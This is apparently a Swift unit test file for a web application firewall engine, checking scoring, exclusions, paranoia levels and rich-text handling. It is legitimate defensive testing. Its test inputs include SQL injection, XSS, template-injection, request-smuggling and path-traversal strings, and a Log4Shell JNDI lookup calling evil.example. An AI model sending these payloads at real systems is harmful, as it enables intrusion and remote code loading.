@testable import Gateway
import Testing

@Suite("WAF engine: scoring, exclusions, paranoia, modes")
struct WafEngineTests {
    static let rules = """
        version: 1
        rich_text:
          - { route: /api/v1/tickets/*/messages, fields: [body] }
        exclusions:
          - { description: secrets, fields: [password] }
          - { route: /api/v1/search, fields: [q], rule_ids: [10] }
          - { route: /api/v1/macros/**, categories: [ssti] }
          - { route: /api/v1/health, rule_ids: [1] }
        rules:
          - { id: 1, category: protocol, severity: critical, targets: [request], operator: { check: content_length_with_transfer_encoding } }
          - { id: 10, category: sqli, severity: critical, targets: [args], inspect_plain: true, transformations: [url_decode_multi], operator: { detect: sqli } }
          - { id: 11, category: xss, severity: critical, targets: [args, header:referer], transformations: [url_decode_multi, html_entity_decode], operator: { detect: xss } }
          - { id: 12, category: xss, severity: critical, targets: [rich_text], operator: { detect: html_executable } }
          - { id: 20, category: ssti, severity: warning, targets: [args], transformations: [lowercase], operator: { phrases: ["{{"] } }
          - { id: 21, category: ssti, severity: notice, targets: [args], operator: { regex: '\\{\\{\\s*\\d' } }
          - { id: 30, category: scanner, severity: critical, paranoia: 2, targets: [header:user-agent], inspect_plain: true, operator: { phrases: [curl] } }
          - { id: 40, category: rce, severity: error, paranoia: 4, targets: [args], operator: { phrases: [";"] } }
        """

    func waf(_ defaults: WAFPolicy.Settings = .init(), tenants: [String: WAFPolicy.Settings] = [:]) throws -> WAF {
        WAF(ruleSet: try WAFRuleSet(yaml: Self.rules), policy: WAFPolicy(defaults: defaults, tenants: tenants))
    }

    func get(_ path: String, _ query: String? = nil, headers: [(name: String, value: String)] = [], tenant: String? = nil) -> InspectedRequest {
        InspectedRequest(method: "GET", rawPath: path, rawQuery: query, headers: headers, tenant: tenant)
    }

    func postJSON(_ path: String, _ json: String, tenant: String? = nil) -> InspectedRequest {
        InspectedRequest(method: "POST", rawPath: path, headers: [("Content-Type", "application/json")], body: Array(json.utf8)[...], tenant: tenant)
    }

    @Test func blocksWhenTheScoreReachesTheThresholdAndReportsEveryRuleOnce() throws {
        let verdict = try waf().inspect(get("/api/v1/tickets", "a=%27%20or%201%3D1--&b=1%20union%20select%201&c=%3Cscript%3E"))
        #expect(verdict.blocked)
        #expect(verdict.score == 10)
        #expect(verdict.matches.map(\.ruleID) == [10, 11])
        #expect(verdict.matches.first?.target == "query:a")
        #expect(verdict.matches.first?.fragment == "' or 1=1--")
    }

    @Test func scoresBelowTheThresholdPass() throws {
        let verdict = try waf().inspect(get("/api/v1/tickets", "t=%7B%7B%201%7D%7D"))
        #expect(verdict.score == 5)
        #expect(verdict.blocked)
        let lenient = try waf(.init(inboundThreshold: 6)).inspect(get("/api/v1/tickets", "t=%7B%7B%201%7D%7D"))
        #expect(lenient.score == 5)
        #expect(!lenient.blocked)
        #expect(!lenient.reachedThreshold)
        #expect(try waf().inspect(get("/api/v1/tickets", "t=%7B%7Bname%7D%7D")).score == 3)
    }

    @Test func detectionOnlyTenantsAreScoredButNotBlocked() throws {
        let engine = try waf(tenants: ["initech": .init(detectionOnly: true)])
        let attack = "q=%27%20or%201%3D1--"
        let logged = engine.inspect(get("/api/v1/tickets", attack, tenant: "initech"))
        #expect(!logged.blocked)
        #expect(logged.reachedThreshold)
        #expect(logged.detectionOnly)
        #expect(logged.matches.map(\.ruleID) == [10])
        #expect(engine.inspect(get("/api/v1/tickets", attack, tenant: "acme")).blocked)
    }

    @Test func paranoiaLevelGatesRules() throws {
        let curl = get("/api/v1/tickets", headers: [("User-Agent", "curl/8.5.0")])
        #expect(try waf(.init(paranoia: 1)).inspect(curl).matches.isEmpty)
        #expect(try waf(.init(paranoia: 2)).inspect(curl).matches.map(\.ruleID) == [30])
        let semicolon = get("/api/v1/tickets", "q=a;b")
        #expect(try waf(.init(paranoia: 3)).inspect(semicolon).matches.isEmpty)
        #expect(try waf(.init(paranoia: 4)).inspect(semicolon).matches.map(\.ruleID) == [40])
        #expect(try waf(.init(paranoia: 1), tenants: ["acme": .init(paranoia: 2)]).inspect(get("/x", headers: [("User-Agent", "curl")], tenant: "acme")).matches.count == 1)
    }

    /// Field names compare as Swift strings do (and so as the services read them): an exclusion
    /// for `Key` covers the same name spelled with a Kelvin sign (U+212A), though its bytes differ.
    @Test func anExclusionCoversEveryCanonicalSpellingOfItsFieldName() throws {
        let engine = WAF(ruleSet: try WAFRuleSet(yaml: """
            version: 1
            exclusions:
              - { fields: [Key], rule_ids: [10] }
            rules:
              - { id: 10, category: sqli, severity: critical, targets: [args], inspect_plain: true, transformations: [url_decode_multi], operator: { detect: sqli } }
            """), policy: WAFPolicy(defaults: .init()))
        let attack = "%27%20or%201%3D1--"
        #expect(engine.inspect(get("/api/v1/tickets", "Key=\(attack)")).matches.isEmpty)
        #expect(engine.inspect(get("/api/v1/tickets", "%E2%84%AAey=\(attack)")).matches.isEmpty)
        #expect(engine.inspect(get("/api/v1/tickets", "Kez=\(attack)")).matches.map(\.ruleID) == [10])
    }

    @Test func fieldExclusionsApplyEverywhere() throws {
        let engine = try waf()
        #expect(!engine.inspect(postJSON("/login", #"{"email":"a@b.c","password":"' or 1=1-- <script>"}"#)).blocked)
        #expect(engine.inspect(postJSON("/login", #"{"email":"' or 1=1--","password":"x"}"#)).blocked)
        #expect(!engine.inspect(get("/login", "password=%27%20or%201%3D1--")).blocked)
    }

    @Test func routeExclusionsApplyOnlyToTheirRouteRulesAndFields() throws {
        let engine = try waf()
        let sqlInQ = "q=%27%20or%201%3D1--"
        #expect(!engine.inspect(get("/api/v1/search", sqlInQ)).blocked)
        #expect(engine.inspect(get("/api/v1/search", "other=%27%20or%201%3D1--")).blocked)
        #expect(engine.inspect(get("/api/v1/search", "q=%3Cscript%3E")).blocked)
        #expect(engine.inspect(get("/api/v1/tickets", sqlInQ)).blocked)
        #expect(engine.inspect(get("/api/v1/macros/3", "t=%7B%7B%201%7D%7D")).score == 0)
        let smuggling: [(name: String, value: String)] = [("Content-Length", "5"), ("Transfer-Encoding", "chunked")]
        #expect(!engine.inspect(get("/api/v1/health", headers: smuggling)).blocked)
        #expect(engine.inspect(get("/api/v1/tickets", headers: smuggling)).matches.map(\.target) == ["header:transfer-encoding"])
    }

    @Test func exclusionRoutesCannotBeReachedByDotSegments() throws {
        let verdict = try waf().inspect(get("/api/v1/search/../tickets", "q=%27%20or%201%3D1--"))
        #expect(verdict.blocked)
    }

    @Test func richTextFieldsAreJudgedOnlyOnWhatRuns() throws {
        let engine = try waf()
        let code = #"{"body":"<p>Run <code>SELECT * FROM t WHERE a = '1' OR 1=1 --</code> and {{ 7 }}</p><pre>&lt;script&gt;</pre>"}"#
        #expect(engine.inspect(postJSON("/api/v1/tickets/4/messages", code)).score == 0)
        let script = #"{"body":"<p>hi</p><img src=x onerror=alert(1)>"}"#
        let verdict = engine.inspect(postJSON("/api/v1/tickets/4/messages", script))
        #expect(verdict.matches.map(\.ruleID) == [12])
        #expect(verdict.matches.first?.target == "rich-text:body")
        // The same field elsewhere is plain text and inspected by every rule.
        #expect(engine.inspect(postJSON("/api/v1/tickets", code)).blocked)
    }

    @Test func fragmentsAreTruncatedEscapedAndNeverCarryRuleText() throws {
        let long = String(repeating: "A", count: 200)
        let verdict = try waf().inspect(get("/api/v1/tickets", "q=%27%20or%201%3D1--%0a\(long)"))
        let match = try #require(verdict.matches.first)
        #expect(match.fragment.count <= WAFMatch.maximumFragmentLength)
        #expect(match.fragment.hasPrefix("' or 1=1--\\x0A"))
    }

    @Test func verdictsCarryNoRuleText() throws {
        let shipped = try WafCorpus.shippedWAF()
        let verdict = shipped.inspect(get("/api/v1/tickets", "q=%3Cscript%3Ealert(1)%3C/script%3E&r=%27%20or%201%3D1--&f=../../etc/passwd"))
        #expect(verdict.matches.count >= 3)
        let described = String(describing: verdict)
        for rule in shipped.ruleSet.rules {
            #expect(!described.contains(rule.message))
            if case .regex(let regex, _) = rule.matcher { #expect(!described.contains(regex.pattern)) }
        }
    }

    @Test func malformedJSONIsInspectedWhole() throws {
        let engine = try waf()
        let verdict = engine.inspect(postJSON("/api/v1/tickets", #"{"a": "x", "b": ' or 1=1-- }"#))
        #expect(verdict.matches.contains { $0.target == "json:(body)" })
        let truncated = InspectedRequest(
            method: "POST", rawPath: "/api/v1/tickets", headers: [("Content-Type", "application/json")],
            body: Array(#"{"subject":"fine","body":"cut off her"#.utf8)[...], bodyIsTruncated: true)
        #expect(engine.inspect(truncated).score == 0)
    }

    @Test func credentialsAreInspectedOnlyByRulesNamingThem() throws {
        let shipped = try WafCorpus.shippedWAF()
        let token = get("/api/v1/me", headers: [("Authorization", "Bearer ' or 1=1-- <script>alert(1)</script>")])
        #expect(shipped.inspect(token).score == 0)
        let log4shell = get("/api/v1/me", headers: [("Authorization", "Bearer ${jndi:ldap://evil.example/a}")])
        #expect(shipped.inspect(log4shell).matches.map(\.target) == ["header:authorization"])
    }

    @Test func jsonBodiesAreInspectedWhateverTheirDeclaredType() throws {
        let engine = try waf()
        for headers: [(name: String, value: String)] in [[], [("Content-Type", "text/plain")], [("Content-Type", "application/octet-stream")]] {
            let request = InspectedRequest(method: "POST", rawPath: "/api/v1/tickets", headers: headers, body: Array(#"  {"q": "' or 1=1--"}"#.utf8)[...])
            #expect(engine.inspect(request).matches.map(\.target) == ["json:q"])
        }
    }

    @Test func shippedParanoiaLevelsGrowStricter() throws {
        let search = get("/api/v1/tickets", "q=select+name+from+users+%3Cb%3E+it%27s")
        let scores = try (1...4).map { try WafCorpus.shippedWAF(paranoia: $0).inspect(search).score }
        #expect(scores[0] == 0)
        #expect(scores[1] == 0)
        #expect(scores[2] == 5)
        #expect(scores[3] > scores[2])
    }

    @Test func cleanRequestsCostNoMatches() throws {
        let verdict = try waf(.init(paranoia: 4)).inspect(get("/api/v1/tickets", "q=printer+jam&page=2"))
        #expect(verdict.score == 0)
        #expect(verdict.matches.isEmpty)
        #expect(!verdict.blocked)
    }
}
